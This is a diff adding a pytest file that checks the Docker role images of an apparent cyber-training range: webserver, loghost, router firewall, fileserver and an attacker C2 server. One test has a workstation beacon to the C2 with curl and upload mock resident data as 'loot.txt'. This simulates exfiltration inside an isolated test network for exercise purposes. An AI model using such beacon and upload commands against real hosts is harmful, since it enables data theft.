@@ -1,0 +1,260 @@
+"""The role images: each is built locally and its main service really answers.
+
+Containers run on one labelled test network, beside a workstation that plays the
+client inside the range; ports that the host reaches are published on 127.0.0.1.
+"""
+from __future__ import annotations
+
+import io
+import socket
+import struct
+import tarfile
+import time
+import urllib.request
+import uuid
+from typing import Any, Iterator
+
+import docker
+import pytest
+from docker.models.containers import Container
+from docker.models.networks import Network
+
+from range.docker_backend import DockerBackend
+from range.errors import EngineUnavailable
+from range.images import build_image
+
+TEST_LABEL = "org.mamori.test"
+LABELS = {TEST_LABEL: "role-images"}
+ROLES = ("workstation", "webserver", "fileserver", "router", "loghost", "attacker")
+
+pytestmark = pytest.mark.docker
+
+
+@pytest.fixture(scope="module")
+def backend() -> DockerBackend:
+    try:
+        return DockerBackend()
+    except EngineUnavailable as exc:
+        pytest.fail(f"these tests need a Docker Engine (`make test` starts one): {exc}")
+
+
+@pytest.fixture(scope="module")
+def tags(backend: DockerBackend) -> dict[str, str]:
+    return {role: build_image(backend, role, log=lambda line: None).tag for role in ROLES}
+
+
+@pytest.fixture(scope="module")
+def network(backend: DockerBackend) -> Iterator[Network]:
+    created = backend.client.networks.create(f"mamori-test-{uuid.uuid4().hex[:8]}", labels=LABELS)
+    yield created
+    client = docker.from_env()
+    mine = {"label": f"{TEST_LABEL}=role-images"}
+    for container in client.containers.list(all=True, filters=mine):
+        container.remove(force=True)
+    for leftover in client.networks.list(filters=mine):
+        leftover.remove()
+
+
+@pytest.fixture(scope="module")
+def client(backend: DockerBackend, tags: dict[str, str], network: Network) -> Container:
+    """A staff workstation on the test network, to reach the other hosts from inside."""
+    return start(backend, tags["workstation"], network, hostname="pc-test01")
+
+
+def start(backend: DockerBackend, tag: str, network: Network, **options: Any) -> Container:
+    container = backend.client.containers.run(
+        tag, detach=True, labels=LABELS, network=network.name, **options
+    )
+    container.reload()
+    return container
+
+
+def address(container: Container, network: Network) -> str:
+    container.reload()
+    return str(container.attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"])
+
+
+def host_port(container: Container, port: str) -> int:
+    container.reload()
+    return int(container.attrs["NetworkSettings"]["Ports"][port][0]["HostPort"])
+
+
+def sh(container: Container, script: str) -> tuple[int, str]:
+    result = container.exec_run(["sh", "-c", script])
+    return result.exit_code, result.output.decode("utf-8", "replace")
+
+
+def wait_until(container: Container, script: str, timeout: float = 20) -> str:
+    """Run *script* in *container* until it succeeds; return its output."""
+    deadline = time.monotonic() + timeout
+    while True:
+        code, output = sh(container, script)
+        if code == 0:
+            return output
+        if time.monotonic() > deadline:
+            pytest.fail(f"{container.name}: `{script}` still fails (exit {code}): {output}")
+        time.sleep(0.3)
+
+
+def retry(action: Any, timeout: float = 20) -> Any:
+    """Call *action* until it stops raising ``OSError`` (a service still starting)."""
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            return action()
+        except OSError:
+            if time.monotonic() > deadline:
+                raise
+            time.sleep(0.3)
+
+
+def listening_ports(container: Container) -> set[int]:
+    # 127.0.0.11 is Docker's embedded DNS on user-defined networks, not the image's.
+    _, output = sh(container, "ss -Hltn | awk '{print $4}'")
+    return {int(a.rsplit(":", 1)[1]) for a in output.split() if not a.startswith("127.0.0.11:")}
+
+
+def test_the_workstation_has_its_tools_and_only_sshd_listens(client: Container) -> None:
+    # sqlite3 and venv are in the full python3, not in base's python3-minimal.
+    tools = "command -v ssh sshpass python3 cron && python3 -c 'import sqlite3, venv'"
+    code, output = sh(client, tools)
+    assert code == 0, output
+    wait_until(client, "pidof sshd && pidof cron")
+    assert listening_ports(client) == {22}
+
+
+def test_the_webserver_serves_the_japanese_page_and_runs_php(
+    backend: DockerBackend, tags: dict[str, str], network: Network
+) -> None:
+    web = start(backend, tags["webserver"], network, ports={"80/tcp": ("127.0.0.1", None)})
+    sh(web, "echo '<?php echo \"sum=\" . (40 + 2);' > /var/www/html/check.php")
+    base = f"http://127.0.0.1:{host_port(web, '80/tcp')}"
+
+    def fetch(path: str) -> str:
+        request = urllib.request.Request(base + path, headers={"User-Agent": "MamoriTest/1.0"})
+        with urllib.request.urlopen(request, timeout=5) as response:
+            return str(response.read().decode("utf-8"))
+
+    page = retry(lambda: fetch("/"))
+    assert "〇〇市 公式ホームページ" in page and 'charset="UTF-8"' in page
+    assert fetch("/check.php") == "sum=42"
+    access = "/var/log/apache2/access.log"  # a real file, not a link to stdout
+    log = wait_until(web, f"test -f {access} && ! test -L {access} && grep MamoriTest {access}")
+    assert '"GET / HTTP/1.1" 200' in log and '"-" "MamoriTest/1.0"' in log  # combined format
+
+
+def test_the_c2_logs_a_beacon_and_keeps_an_upload(
+    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
+) -> None:
+    c2 = start(backend, tags["attacker"], network, name=f"c2-{uuid.uuid4().hex[:6]}")
+    url = f"http://{c2.name}:8080"
+    tasking = wait_until(client, f"curl -sf -A 'MamoriBeacon/2.0' '{url}/beacon?id=pc-test01'")
+    assert tasking.startswith("sleep 30")
+    upload = f"echo 住民情報 | curl -sf --data-binary @- {url}/upload?name=loot.txt"
+    code, reply = sh(client, upload)
+    assert code == 0 and reply.startswith("ok "), reply
+    log = wait_until(c2, "cat /var/log/c2/beacons.log")
+    me = address(client, network)
+    assert f"{me} GET /beacon?id=pc-test01 ua=\"MamoriBeacon/2.0\" bytes=0" in log
+    assert f"{me} POST /upload?name=loot.txt" in log
+    assert sh(c2, f"cat /var/lib/c2/loot/*_{me}_loot.txt") == (0, "住民情報\n")
+
+
+def test_the_loghost_writes_each_senders_messages_to_its_own_file(
+    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
+) -> None:
+    loghost = start(backend, tags["loghost"], network)
+    target = address(loghost, network)
+    wait_until(loghost, "ss -Hlun | grep -q ':514 ' && ss -Hltn | grep -q ':514 '")
+    sh(client, f"logger -n {target} -P 514 -t mamori-test 'over UDP: 不審な通信'")
+    sh(client, f"logger -T -n {target} -P 514 -t mamori-test 'over TCP'")
+    remote = wait_until(loghost, "grep -q 'over TCP' /var/log/remote/pc-test01.log"
+                                 " && cat /var/log/remote/pc-test01.log", timeout=10)
+    assert "pc-test01 mamori-test over UDP: 不審な通信" in remote
+    assert sh(loghost, "grep -c mamori-test /var/log/syslog")[1].strip() == "0"
+    assert sh(loghost, "pgrep -c rsyslogd")[1].strip() == "1"
+
+
+FIREWALL = """\
+*filter
+:INPUT ACCEPT [0:0]
+:FORWARD DROP [0:0]
+-A INPUT -p tcp --dport 22 -j REJECT --reject-with tcp-reset
+COMMIT
+*nat
+:POSTROUTING ACCEPT [0:0]
+-A POSTROUTING -o eth0 -j MASQUERADE
+COMMIT
+"""
+
+
+def test_the_router_applies_the_scenario_firewall(
+    backend: DockerBackend, tags: dict[str, str], network: Network, client: Container
+) -> None:
+    router = backend.client.containers.create(
+        tags["router"], labels=LABELS, network=network.name, name=f"rt-{uuid.uuid4().hex[:6]}",
+        cap_add=["NET_ADMIN"], sysctls={"net.ipv4.ip_forward": "1"},
+    )
+    archive = io.BytesIO()
+    with tarfile.open(fileobj=archive, mode="w") as tar:
+        data = FIREWALL.encode()
+        member = tarfile.TarInfo("firewall.rules")
+        member.size = len(data)
+        tar.addfile(member, io.BytesIO(data))
+    router.put_archive("/etc/mamori", archive.getvalue())
+    router.start()
+    rules = wait_until(router, "pidof sshd >/dev/null && iptables -S && iptables -t nat -S")
+    assert "-P FORWARD DROP" in rules and "--dport 22 -j REJECT" in rules
+    assert "-A POSTROUTING -o eth0 -j MASQUERADE" in rules
+    assert "DOCKER_OUTPUT" in rules, "Docker's embedded-DNS rules must survive the restore"
+    assert sh(router, "sysctl -n net.ipv4.ip_forward")[1].strip() == "1"
+    code, _ = sh(client, f"nc -z -w 3 {router.name} 22")
+    assert code != 0, "sshd runs, so only the firewall can refuse the connection"
+
+
+def smb2_negotiate_dialect(port: int) -> int:
+    """Send an SMB2 NEGOTIATE to 127.0.0.1:*port*; return the dialect the server chose."""
+    # 64-byte SMB2 header (command 0 = NEGOTIATE, one credit asked), then the request
+    # offering dialects 2.0.2, 2.1 and 3.0.
+    header = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, b"")
+    body = struct.pack("<HHHHI16sQ3H", 36, 3, 1, 0, 0, bytes(16), 0, 0x0202, 0x0210, 0x0300)
+    message = header + body
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
+        conn.sendall(struct.pack(">I", len(message)) + message)
+        reply = b""
+        while len(reply) < 4 + 64 + 6:
+            chunk = conn.recv(4096)
+            if not chunk:
+                raise ConnectionError(f"smbd closed the connection after {reply!r}")
+            reply += chunk
+    assert reply[4:8] == b"\xfeSMB", reply[:16]
+    assert struct.unpack("<I", reply[12:16])[0] == 0, "NEGOTIATE failed"
+    return int(struct.unpack("<H", reply[4 + 64 + 4:4 + 64 + 6])[0])
+
+
+def rsync_modules(port: int) -> list[str]:
+    """List the rsync daemon's modules at 127.0.0.1:*port*, as `rsync rsync://host/` does."""
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
+        stream = conn.makefile("rwb")
+        greeting = stream.readline()
+        if not greeting.startswith(b"@RSYNCD:"):
+            raise ConnectionError(f"no rsync greeting: {greeting!r}")
+        stream.write(b"@RSYNCD: 31.0\n\n")
+        stream.flush()
+        lines = [line.decode().rstrip("\n") for line in iter(stream.readline, b"")]
+    assert lines[-1] == "@RSYNCD: EXIT", lines
+    return [line.split()[0] for line in lines[:-1]]
+
+
+def test_the_fileserver_answers_smb_and_lists_its_rsync_modules(
+    backend: DockerBackend, tags: dict[str, str], network: Network
+) -> None:
+    files = start(
+        backend, tags["fileserver"], network,
+        ports={"445/tcp": ("127.0.0.1", None), "873/tcp": ("127.0.0.1", None)},
+    )
+    dialect = retry(lambda: smb2_negotiate_dialect(host_port(files, "445/tcp")))
+    assert dialect in (0x0202, 0x0210, 0x0300)
+    assert retry(lambda: rsync_modules(host_port(files, "873/tcp"))) == ["backup"]
+    guest = "testparm -s --parameter-name='guest ok' --section-name=share 2>/dev/null"
+    assert sh(files, guest) == (0, "No\n")
